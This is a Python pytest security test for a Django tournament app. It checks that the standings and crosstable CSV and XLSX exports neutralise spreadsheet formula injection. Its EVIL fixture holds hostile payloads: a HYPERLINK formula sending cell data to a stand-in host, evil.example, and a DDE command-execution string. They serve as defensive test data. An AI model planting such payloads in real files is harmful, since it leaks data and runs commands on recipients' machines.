"""No formula injection in any export (issue 13 item 9): a name that a spreadsheet would run as a formula is
exported as text in the standings and crosstable CSV and XLSX."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from draw import manager as draw_manager
from draw.models import Round
from public.exports import neutralise
from registration.models import Person
from tests.factories import make_tournament

pytestmark = pytest.mark.security

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"жми")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]


@pytest.fixture
def evil_tournament(secretary):
    t = make_tournament(secretary, players=len(EVIL), system="round_robin")
    for person, surname in zip(Person.objects.filter(participations__tournament=t), EVIL, strict=True):
        person.surname = surname
        person.organisation = "=cmd()"
        person.save()
    rnd = draw_manager.draw_round(t, secretary, expected_number=1, seed=1)
    Round.objects.filter(pk=rnd.pk).update(
        status=Round.Status.PUBLISHED
    )  # a crosstable shows published rounds
    return t


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("page", ["public:standings", "public:crosstable"])
def test_no_export_cell_is_a_formula(client, evil_tournament, page):
    url = reverse(page, args=[evil_tournament.pk])
    cells = _csv_cells(client.get(url, {"_export": "csv"}).content)
    assert cells, "the export is empty"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    xlsx = _xlsx_cells(client.get(url, {"_export": "xlsx"}).content)
    assert not [c.value for c in xlsx if c.data_type == "f"]
    texts = [c.value for c in xlsx if isinstance(c.value, str)]
    assert not [v for v in texts if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_numbers_stay_numbers_and_plain_text_stays_as_typed():
    assert neutralise(-1.5) == -1.5 and neutralise(3) == 3
    assert neutralise("Алиев") == "Алиев" and neutralise("5–8") == "5–8"
    assert neutralise("=1+1") == "'=1+1" and neutralise("\r=1") == "'\r=1"
